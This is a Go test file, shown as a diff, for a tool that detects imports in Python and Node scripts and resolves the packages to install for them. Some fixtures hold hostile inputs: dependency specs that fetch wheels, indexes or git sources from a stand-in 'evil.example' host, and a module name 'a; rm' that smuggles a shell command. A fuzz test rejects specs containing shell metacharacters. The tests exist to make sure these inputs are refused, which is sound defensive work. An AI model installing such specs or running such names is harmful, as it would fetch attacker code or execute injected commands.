@@ -1,0 +1,200 @@
+package imports_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"os/exec"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/skillsd/skillsd/skills/script/imports"
+)
+
+// ask lets the machine's Python look at a script, outside of a sandbox: the sources are data to it.
+func ask(t *testing.T, files map[string]string) []string {
+	t.Helper()
+	python, err := exec.LookPath("python3")
+	if err != nil {
+		t.Skip("no python3 here")
+	}
+	sources := map[string][]byte{}
+	for name, text := range files {
+		sources[name] = []byte(text)
+	}
+	argv, stdin, err := imports.Python(python, []string{"scripts/x.py"}, sources)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(argv[0], argv[1:]...)
+	cmd.Stdin = strings.NewReader(string(stdin))
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	answers, err := imports.ParsePython(out, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return words(answers[0])
+}
+
+func words(modules []imports.Module) (found []string) {
+	for _, m := range modules {
+		if !m.There {
+			found = append(found, m.Name+" "+string(m.Kind))
+		}
+	}
+	return found
+}
+
+func TestPython(t *testing.T) {
+	tests := map[string]struct {
+		files map[string]string // script is scripts/x.py
+		want  []string
+	}{
+		"top":       {files: map[string]string{"": "import os, zq_a.b\nfrom zq_c.d import e\n"}, want: []string{"zq_a hard", "zq_c hard"}},
+		"types":     {files: map[string]string{"": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n import zq_a\n"}},
+		"function":  {files: map[string]string{"": "def f():\n import zq_a\n"}, want: []string{"zq_a lazy"}},
+		"leaves":    {files: map[string]string{"": "try:\n import zq_a\nexcept ImportError:\n raise SystemExit(1)\n"}, want: []string{"zq_a required"}},
+		"guarded":   {files: map[string]string{"": "try:\n import zq_a\nexcept ImportError:\n zq_a = None\n"}, want: []string{"zq_a guarded"}},
+		"other":     {files: map[string]string{"": "try:\n import zq_a\nexcept ImportError:\n import zq_b\n"}, want: []string{"zq_a guarded", "zq_b hard"}},
+		"fallback":  {files: map[string]string{"": "try:\n import json\nexcept ImportError:\n import zq_b\n"}},
+		"finally":   {files: map[string]string{"": "try:\n import zq_a\nfinally:\n pass\n"}, want: []string{"zq_a hard"}},
+		"version":   {files: map[string]string{"": "import sys\nif sys.version_info < (3, 4):\n import zq_a\n"}},
+		"branch":    {files: map[string]string{"": "import sys\nif sys.argv[1:]:\n import zq_a\n"}, want: []string{"zq_a lazy"}},
+		"main":      {files: map[string]string{"": "if __name__ == '__main__':\n import zq_a\n"}, want: []string{"zq_a hard"}},
+		"sibling":   {files: map[string]string{"": "import near\n", "scripts/near.py": "import zq_a\n"}, want: []string{"zq_a hard"}},
+		"its main":  {files: map[string]string{"": "import near\n", "scripts/near.py": "if __name__ == '__main__':\n import zq_a\n"}},
+		"package":   {files: map[string]string{"": "from p import q\n", "scripts/p/__init__.py": "", "scripts/p/q.py": "from . import r\n", "scripts/p/r.py": "import zq_a\n"}, want: []string{"zq_a hard"}},
+		"namespace": {files: map[string]string{"": "import p.q\n", "scripts/p/q.py": "import zq_a\n"}, want: []string{"zq_a hard"}},
+		"elsewhere": {files: map[string]string{"": "import sys\nsys.path.insert(0, '..')\nimport far\n", "lib/far.py": "import zq_a\n"}, want: []string{"zq_a hard"}},
+		"not found": {files: map[string]string{"": "import far\n", "lib/far.py": ""}, want: []string{"far hard"}},
+		"not run":   {files: map[string]string{"": "print('[[]]')\nraise SystemExit(9)\n"}},
+		"no Python": {files: map[string]string{"": "import zq_a\n(\n"}},
+	}
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			tt.files["scripts/x.py"] = tt.files[""]
+			delete(tt.files, "")
+			if got := ask(t, tt.files); !slices.Equal(got, tt.want) {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParsePythonRefuses(t *testing.T) {
+	for _, out := range []string{"", "[]", `[[{"name":"a","kind":"sure"}]]`} {
+		if _, err := imports.ParsePython([]byte(out), 1); err == nil {
+			t.Errorf("%s is accepted", out)
+		}
+	}
+	got, err := imports.ParsePython([]byte(`[[{"name":"a; rm","kind":"hard"},{"name":"b","kind":"hard"}]]`), 1)
+	if err != nil || len(got[0]) != 1 || got[0][0].Name != "b" {
+		t.Errorf("got %v, %v", got, err)
+	}
+}
+
+func TestNode(t *testing.T) {
+	tests := map[string]struct {
+		files map[string]string
+		want  []string
+	}{
+		"import":   {files: map[string]string{"": "import a from 'zq-a';\nimport 'zq-b/c';\nexport * from \"@zq/d/e\";"}, want: []string{"zq-a hard", "zq-b hard", "@zq/d hard"}},
+		"lines":    {files: map[string]string{"": "import {\n a,\n b,\n} from 'zq-a';"}, want: []string{"zq-a hard"}},
+		"require":  {files: map[string]string{"": "const a = require('zq-a');\nfunction f() { require('zq-b') }"}, want: []string{"zq-a hard", "zq-b lazy"}},
+		"dynamic":  {files: map[string]string{"": "const a = await import('zq-a');\nimport('zq-b');"}, want: []string{"zq-a hard", "zq-b lazy"}},
+		"own":      {files: map[string]string{"": "import fs from 'node:fs'; import p from 'path'; import q from 'fs/promises';"}},
+		"comments": {files: map[string]string{"": "// import a from 'zq-a'\n/* require('zq-b') */\nconst s = \"require('zq-c')\" + `require('zq-d')`;"}},
+		"types":    {files: map[string]string{"": "import type { A } from 'zq-a';"}},
+		"relative": {files: map[string]string{"": "import './m.mjs'; const n = require('../lib/n');", "scripts/m.mjs": "import a from 'zq-a';", "lib/n.js": "require('zq-b');"}, want: []string{"zq-a hard", "zq-b hard"}},
+		"there":    {files: map[string]string{"": "import a from 'have';"}},
+	}
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			sources := map[string][]byte{}
+			for path, text := range tt.files {
+				if path == "" {
+					path = "scripts/x.mjs"
+				}
+				sources[path] = []byte(text)
+			}
+			got := words(imports.Node("scripts/x.mjs", sources, func(name string) bool { return name == "have" }))
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+const script = `# /// script
+# requires-python = ">=3.11"
+# dependencies = [
+#   "zq-block >= 2 ; python_version > '3'",
+#   "evil @ https://evil.example/x.whl",
+#   "--index-url=http://evil.example",
+# ]
+# ///
+"""pip install zq-text"""
+`
+
+func TestNeeds(t *testing.T) {
+	texts := &imports.Texts{Script: []byte(script), Skill: []byte("Run `pip install zq_skill docx git+https://evil.example/x`."),
+		Files: map[string][]byte{
+			"requirements.txt": []byte("zq.req[x]>=1,<2 # why\n-r other.txt\npyyaml==6.0\n"),
+			"pyproject.toml":   []byte("[project]\ndependencies = ['zq-project~=1.0']\n"),
+			"package.json":     []byte(`{"dependencies":{"zq-n":"^1.2.0","zq-u":"git+https://evil.example"}}`),
+		}}
+	tests := []struct {
+		module, spec string
+		source       imports.Source
+		node         bool
+	}{
+		{module: "zq_block", spec: "zq-block>=2", source: imports.FromBlock},
+		{module: "zq_req", spec: "zq.req[x]>=1,<2", source: imports.FromRequirements},
+		{module: "zq_project", spec: "zq-project~=1.0", source: imports.FromRequirements},
+		{module: "yaml", spec: "pyyaml==6.0", source: imports.FromRequirements},
+		{module: "zq_skill", spec: "zq_skill", source: imports.FromSkill},
+		{module: "zq_text", spec: "zq-text", source: imports.FromScript},
+		{module: "PIL", spec: "Pillow", source: imports.FromTable},
+		// The skill asks for the other package, which is called like the module.
+		{module: "docx", spec: "python-docx", source: imports.FromTable},
+		{module: "idea"},
+		{module: "evil"},
+		{module: "zq-n", spec: "zq-n@^1.2.0", source: imports.FromRequirements, node: true},
+		{module: "zq-u", node: true},
+		{module: "docx", spec: "docx", source: imports.FromTable, node: true},
+	}
+	for _, tt := range tests {
+		need := imports.Needs([]imports.Module{{Name: tt.module, Kind: imports.Hard}}, texts, tt.node)[0]
+		if need.Spec != tt.spec || need.Source != tt.source {
+			t.Errorf("%s: got %q by %q, want %q by %q", tt.module, need.Spec, need.Source, tt.spec, tt.source)
+		}
+	}
+	if got := texts.BlockSpecs(); !slices.Equal(got, []string{"zq-block>=2"}) {
+		t.Errorf("the block asks for %q", got)
+	}
+	if _, err := imports.Block([]byte(script + "\nx = 1\n" + script)); err == nil {
+		t.Error("two blocks are accepted")
+	}
+}
+
+// FuzzTexts holds what is offered to the form of names: nothing that a package manager takes for something else.
+func FuzzTexts(f *testing.F) {
+	f.Add(script, "pip install x==1", "import a from 'b'", "y")
+	f.Fuzz(func(t *testing.T, script, skill, node, module string) {
+		texts := &imports.Texts{Script: []byte(script), Skill: []byte(skill),
+			Files: map[string][]byte{"requirements.txt": []byte(skill), "package.json": []byte(node)}}
+		modules := imports.Node("x.js", map[string][]byte{"x.js": []byte(node)}, func(string) bool { return false })
+		needs := imports.Needs(append(modules, imports.Module{Name: module}), texts, true)
+		needs = append(needs, imports.Needs([]imports.Module{{Name: module}}, texts, false)...)
+		for _, need := range needs {
+			if strings.ContainsAny(need.Spec, " \n:'\"$`\\#&|()/") && !strings.HasPrefix(need.Spec, "@") ||
+				strings.HasPrefix(need.Spec, "-") {
+				data, _ := json.Marshal(need)
+				t.Error(fmt.Sprintf("offered: %s", data))
+			}
+		}
+	})
+}
